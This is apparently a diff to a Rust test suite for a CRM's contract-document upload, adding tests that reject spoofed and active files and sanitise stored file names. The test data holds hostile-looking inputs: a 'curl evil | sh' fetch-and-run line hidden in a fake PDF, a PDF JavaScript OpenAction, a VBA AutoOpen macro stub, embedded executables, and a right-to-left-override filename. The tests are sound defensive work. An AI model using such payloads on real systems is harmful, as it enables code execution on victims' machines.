@@ -8,76 +8,30 @@ use crate::support::TestCrm;
 
 /// Tiny files of each accepted kind, built here so the tests need no fixtures on disk.
 pub mod files {
+    use crm::contracts::samples;
+
     pub fn pdf() -> Vec<u8> {
-        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
+        samples::pdf("")
     }
 
     pub fn png() -> Vec<u8> {
-        b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0".to_vec()
+        samples::png()
     }
 
     pub fn jpeg() -> Vec<u8> {
-        b"\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xFF\xD9".to_vec()
+        samples::jpeg()
     }
 
-    /// Entries in the order Word writes them (infer checks the third and fourth are `word/`).
     pub fn docx() -> Vec<u8> {
-        zip(&[
-            ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>"),
-            ("_rels/.rels", b"<?xml version=\"1.0\"?><Relationships/>"),
-            ("word/_rels/document.xml.rels", b"<?xml version=\"1.0\"?><Relationships/>"),
-            ("word/document.xml", b"<?xml version=\"1.0\"?><w:document/>"),
-        ])
+        samples::docx(&[])
     }
 
-    /// ODF puts an uncompressed `mimetype` entry first.
     pub fn odt() -> Vec<u8> {
-        zip(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<office:document/>")])
+        samples::odt(&[])
     }
 
-    /// An OLE compound file with a `WordDocument` stream entry, as Word 97-2003 writes.
     pub fn doc() -> Vec<u8> {
-        let mut bytes = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
-        bytes.resize(512, 0);
-        for name in ["Root Entry", "WordDocument"] {
-            let mut entry: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
-            entry.resize(128, 0);
-            bytes.extend(entry);
-        }
-        bytes
-    }
-
-    /// A ZIP archive of stored (uncompressed) entries.
-    fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
-        let (mut out, mut central) = (Vec::new(), Vec::new());
-        for (name, data) in entries {
-            let offset = out.len() as u32;
-            let common = [&20u16.to_le_bytes()[..], &[0; 8], &crc32(data).to_le_bytes()]
-                .concat()
-                .into_iter()
-                .chain((data.len() as u32).to_le_bytes().repeat(2))
-                .chain((name.len() as u16).to_le_bytes())
-                .chain([0, 0])
-                .collect::<Vec<u8>>();
-            out.extend(b"PK\x03\x04".iter().chain(&common).chain(name.as_bytes()).chain(*data));
-            central.extend(b"PK\x01\x02\x14\0".iter().chain(&common).chain(&[0; 14]));
-            let at = central.len() - 4;
-            central[at..].copy_from_slice(&offset.to_le_bytes());
-            central.extend(name.as_bytes());
-        }
-        let (cd_offset, cd_size, n) = (out.len() as u32, central.len() as u32, entries.len() as u16);
-        out.extend(central);
-        out.extend(b"PK\x05\x06\0\0\0\0");
-        out.extend([n.to_le_bytes(), n.to_le_bytes()].concat());
-        out.extend([cd_size.to_le_bytes(), cd_offset.to_le_bytes()].concat());
-        out.extend([0, 0]);
-        out
-    }
-
-    fn crc32(data: &[u8]) -> u32 {
-        !data.iter().fold(!0u32, |crc, &byte| {
-            (0..8).fold(crc ^ u32::from(byte), |c, _| if c & 1 == 1 { (c >> 1) ^ 0xEDB8_8320 } else { c >> 1 })
-        })
+        samples::doc(false)
     }
 }
 
@@ -214,6 +168,60 @@ both_backends! {
             assert_eq!(field_errors(err), vec![("document", "file_type")]);
         }
         assert_eq!((t.count("contracts").await, t.count("contract_documents").await), (0, 0));
+    }
+
+    async fn a_spoofed_pdf_or_docx_is_refused_whole_and_nothing_is_written(t: TestCrm) {
+        use crm::contracts::samples;
+        let seo = service(&t, "SEO").await;
+        let spoofs = [
+            ("договор.pdf", b"%PDF-1.4\n<html><body onload=\"alert(1)\"></body></html>".to_vec()),
+            ("договор.pdf", b"%PDF-1.4\n#!/bin/sh\ncurl evil | sh\n".to_vec()),
+            ("договор.docx", samples::zip(&[("setup.exe", b"MZ... word/document.xml ...")])),
+        ];
+        for (name, bytes) in spoofs {
+            let err = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), Some(upload(name, bytes))).await.unwrap_err();
+            assert_eq!(field_errors(err), vec![("document", "file_broken")], "{name}");
+        }
+        let active = [
+            ("macro.docx", samples::docx(&[("word/vbaProject.bin", b"Sub AutoOpen()")])),
+            ("macro.doc", samples::doc(true)),
+            ("script.pdf", samples::pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
+            ("payload.docx", samples::docx(&[("word/media/run.exe", b"MZ")])),
+        ];
+        for (name, bytes) in active {
+            let err = t.crm.create_contract(&t.admin, &contract("Д-1", seo, "10"), Some(upload(name, bytes))).await.unwrap_err();
+            assert_eq!(field_errors(err), vec![("document", "file_active")], "{name}");
+        }
+        assert_eq!((t.count("contracts").await, t.count("contract_documents").await), (0, 0));
+
+        // an office that needs macro documents may allow them
+        let lenient = t.with_settings(Settings { allow_active_documents: true, ..Settings::default() }).await;
+        let admin = lenient.sign_in("admin", crate::support::PASSWORD).await.unwrap();
+        let macro_doc = upload("macro.doc", samples::doc(true));
+        lenient.create_contract(&admin, &contract("Д-2", seo, "10"), Some(macro_doc)).await.expect("allowed");
+    }
+
+    async fn stored_file_names_are_safe_to_save_and_to_read(t: TestCrm) {
+        let seo = service(&t, "SEO").await;
+        let long = format!("{}.pdf", "Договор".repeat(40));
+        for (i, (name, stored)) in [
+            ("invoice\u{202e}fdp.exe.pdf", "invoicefdp.exe.pdf".to_owned()),
+            ("CON.pdf", "_CON.pdf".to_owned()),
+            ("акт. ", "акт".to_owned()),
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let created = t
+                .crm
+                .create_contract(&t.admin, &contract(&format!("Д-{i}"), seo, "10"), Some(upload(name, files::pdf())))
+                .await
+                .unwrap();
+            assert_eq!(created.document.unwrap().file_name, stored);
+        }
+        let created = t.crm.create_contract(&t.admin, &contract("Д-long", seo, "10"), Some(upload(&long, files::pdf()))).await.unwrap();
+        let stored = created.document.unwrap().file_name;
+        assert!(stored.len() <= 255 && stored.ends_with(".pdf"), "{} bytes: {stored}", stored.len());
     }
 
     async fn a_document_over_the_size_limit_is_refused_naming_the_limit(t: TestCrm) {
